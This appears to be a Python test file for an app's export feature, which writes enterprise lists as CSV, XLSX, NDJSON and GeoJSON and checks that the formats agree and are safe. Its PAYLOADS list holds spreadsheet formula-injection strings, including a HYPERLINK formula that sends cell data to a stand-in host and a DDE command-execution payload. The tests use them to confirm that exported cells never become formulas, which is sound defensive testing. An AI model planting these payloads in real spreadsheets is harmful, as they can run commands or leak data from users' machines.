"""Lists as files: four forms that agree cell by cell with the screen, text that stays text, places on a map."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Sequence
from dataclasses import replace
from io import BytesIO, StringIO
from typing import Any
from zipfile import BadZipFile

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from sqlalchemy import Engine

from app.errors import BadInput, LuzhangError
from app.register.lists import portions
from app.register.lists.columns import NOUNS, columns
from app.register.lists.export import Export, export
from app.register.scope import LOCAL_OPERATOR
from importers.container.engines.delimited import read_delimited
from importers.container.limits import DEFAULT
from reports.exports import FORMS, form_called, forms_of, pieces
from reports.exports.cells import headings, printed
from reports.exports.csv_file import kept_text, line_of
from tests.register.lists.county_of_ties import ASKS, county_of_ties
from tests.register.rosters import COUNTY, Firm, roster, take_in
from tests.register.successions.firms import SURVEY

#: What a spreadsheet program would reckon, send away or lose.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"点")',
    "+8613812345678",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1+1",
    "'=1",
    "''",
    "'甲",
    '="00123"',
    "=cmd|' /C calc'!A0",
    '引号"和,逗号;分号\n换行',
    " 两头有空格 ",
]

#: Whatever a cell may hold.
WRITTEN = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")


@pytest.fixture
def county(own_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Engine:
    """Firms of every kind, read a few at a time, two of them with places, some with texts to be afraid of."""
    monkeypatch.setattr(portions, "_FIRST", 2)
    county_of_ties(own_engine)
    placed = Firm({"name": "有坐标的厂", "longitude": 112.1945, "latitude": 25.3752, "contact_phone": "13812345678"})
    half = Firm({"name": "只有经度的厂", "longitude": 112.2})
    afraid = [Firm({"name": f"厂{place}", "remark": text}) for place, text in enumerate(PAYLOADS)]
    take_in(own_engine, roster(placed, half, *afraid, on=SURVEY, by="县局"))
    return own_engine


def asked(engine: Engine, noun: str, *pairs: tuple[str, str]) -> Export:
    return export(engine, noun, [("county", COUNTY), ("as_of", SURVEY), *pairs], LOCAL_OPERATOR)


def file(engine: Engine, form: str, noun: str, *pairs: tuple[str, str]) -> bytes:
    return b"".join(pieces(asked(engine, noun, *pairs), form))


def from_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def from_xlsx(content: bytes, heads: Sequence[str]) -> list[list[Any]]:
    """The head and the rows below it, down to the first that is none: the notes, which are merged."""
    sheet: Any = openpyxl.load_workbook(BytesIO(content)).active
    rows = [
        [unescape(cell.value) if cell.data_type != "n" else cell.value for cell in row] for row in sheet.iter_rows()
    ]
    first = rows.index(list(heads))
    count = int("".join(filter(str.isdigit, next(one for one in rows[1] if one and one.startswith("共")))))
    return rows[first : first + 1 + count]


def text(cell: Any) -> str:
    return "" if cell is None else line_of([cell]).decode()[:-2] if not isinstance(cell, str) else cell


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(asking=st.data())
def test_four_forms_agree_cell_by_cell(county: Engine, asking: st.DataObject) -> None:
    noun, filters = asking.draw(st.sampled_from(ASKS))
    sort = asking.draw(st.sampled_from(sorted(columns(noun))))
    pairs = [*filters, ("sort", asking.draw(st.sampled_from(["", "-"])) + sort)]
    given = asked(county, noun, *pairs)
    heads = headings(given)
    rows = [line.row for line in given.lines()]
    cells = [printed(row, tuple(heads)) for row in rows]

    assert [json.loads(line) for line in file(county, "ndjson", noun, *pairs).splitlines()] == rows
    sheet = from_xlsx(file(county, "xlsx", noun, *pairs), list(heads.values()))
    assert [[text(cell) for cell in row] for row in sheet[1:]] == [[text(cell) for cell in row] for row in cells]
    lines = from_csv(file(county, "csv", noun, *pairs))
    assert lines[0] == list(heads.values())
    assert lines[1:] == [[kept_text(cell) if isinstance(cell, str) else text(cell) for cell in row] for row in cells]
    if noun == "enterprises":
        features = json.loads(file(county, "geojson", noun, *pairs))["features"]
        assert [one["properties"] for one in features] == rows


@pytest.mark.parametrize("form", FORMS)
def test_the_same_facts_give_the_same_bytes(county: Engine, form: str) -> None:
    assert file(county, form, "enterprises") == file(county, form, "enterprises")


def test_places_are_points_and_firms_without_one_are_counted_and_named(county: Engine) -> None:
    said = json.loads(file(county, "geojson", "enterprises"))
    placed = [one for one in said["features"] if one["geometry"]]

    assert said["type"] == "FeatureCollection"
    assert [(one["properties"]["name"], one["geometry"]) for one in placed] == [
        ("有坐标的厂", {"type": "Point", "coordinates": [112.1945, 25.3752]})
    ]
    assert placed[0]["properties"]["contact_phone"] == "138****5678"
    assert said["unplaced"]["total"] == len(said["features"]) - 1 == said["total"] - 1
    assert {"id", "name"} == said["unplaced"]["enterprises"][0].keys()
    assert "只有经度的厂" in [one["name"] for one in said["unplaced"]["enterprises"]]
    assert (said["as_of"], said["county"], "WGS 84" in said["coordinate_system"]) == (SURVEY, COUNTY, True)


def test_nothing_in_a_sheet_is_a_formula(county: Engine) -> None:
    sheet: Any = openpyxl.load_workbook(BytesIO(file(county, "xlsx", "enterprises"))).active

    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}


def test_no_cell_of_a_csv_begins_as_a_formula_does(county: Engine) -> None:
    cells = [cell for row in from_csv(file(county, "csv", "enterprises")) for cell in row]

    assert not [cell for cell in cells if cell.strip()[:1] in tuple("=+-@＝") or cell[:1] in ("\t", "\r", "\n")]


@settings(deadline=None)
@given(cells=st.lists(st.text(WRITTEN, min_size=1), min_size=2))
@example(cells=PAYLOADS)
def test_texts_come_back_through_the_importer_as_they_were(cells: list[str]) -> None:
    content = b"\xef\xbb\xbf" + line_of([f"列{place}" for place in range(len(cells))]) + line_of(cells)
    sheet = next(iter(read_delimited(content, "csv", DEFAULT).sheets))
    rows = {row: {column: cell.text for column, cell in found} for row, found in sheet.rows}

    assert rows[2] == {
        place: one.replace("\r\n", "\n").replace("\r", "\n") for place, one in enumerate(cells, 1) if one.strip()
    }


@pytest.mark.parametrize("form", FORMS)
def test_a_file_of_which_rows_are_missing_never_comes_to_its_end(county: Engine, form: str) -> None:
    whole = file(county, form, "enterprises")
    given = asked(county, "enterprises")
    given.rows = ((given.total + 1, 0),)
    got = b""

    def torn() -> Iterator[bytes]:
        nonlocal got
        for piece in pieces(given, form):
            got += piece
            yield piece

    with pytest.raises(LuzhangError):
        list(torn())
    assert len(got) < len(whole)
    if form in ("csv", "ndjson"):
        assert got.count(b"\n") < whole.count(b"\n")
    else:
        with pytest.raises((ValueError, BadZipFile)):
            json.loads(got) if form == "geojson" else openpyxl.load_workbook(BytesIO(got))


HEADS = {"csv": b"\xef\xbb\xbf", "xlsx": b"PK", "geojson": b'{"type": "FeatureCollection"'}


@pytest.mark.parametrize("form", HEADS)
def test_the_head_of_a_file_does_not_wait_for_its_rows(
    county: Engine, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    def none_yet(_: Export) -> Iterator[Any]:
        raise AssertionError("a row was asked for")
        yield

    monkeypatch.setattr(Export, "lines", none_yet)
    given = pieces(asked(county, "enterprises", ("sort", "name")), form)

    assert next(given).startswith(HEADS[form])
    with pytest.raises(AssertionError):
        list(given)


def test_a_sheet_says_below_its_rows_how_many_they_are_where_nobody_knew_before(
    county: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("reports.exports.workbook_file._LOOKED_AT", 1)
    pairs = [("permit.lacking.not", "eia"), ("maybe", "include")]
    total = len(list(asked(county, "enterprises", *pairs).lines()))
    told, untold = (file(county, "xlsx", "enterprises", *ask) for ask in ([pairs[1]], pairs))

    def said(content: bytes, row: int) -> list[str]:
        sheet: Any = openpyxl.load_workbook(BytesIO(content)).active
        rows = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
        return [cell for cell in rows[row] if str(cell).startswith("共")]

    assert said(untold, 3 + total) == [f"共{total}条"]
    assert (said(untold, 1), said(told, 1)) == ([], [f"共{asked(county, 'enterprises').total}条"])


def test_the_ending_of_a_name_tells_the_form() -> None:
    assert [form_called("enterprises", f"企业.{form.upper()}") for form in FORMS] == list(FORMS)
    assert {noun: "geojson" in forms_of(noun) for noun in NOUNS} == {noun: noun == "enterprises" for noun in NOUNS}
    for noun, name in (("equipment", "设备.geojson"), ("equipment", "设备.pdf"), ("equipment", "设备")):
        with pytest.raises(BadInput) as refused:
            form_called(noun, name)
        assert refused.value.code == "output.form"


def test_a_list_of_nothing_is_a_whole_file(county: Engine) -> None:
    none = ("q", "没有这样的厂")

    assert file(county, "ndjson", "enterprises", none) == b""
    assert len(from_csv(file(county, "csv", "enterprises", none))) == 1
    assert json.loads(file(county, "geojson", "enterprises", none))["features"] == []
    assert file(county, "xlsx", "enterprises", none).startswith(b"PK")
    assert replace(asked(county, "enterprises", none)).total == 0
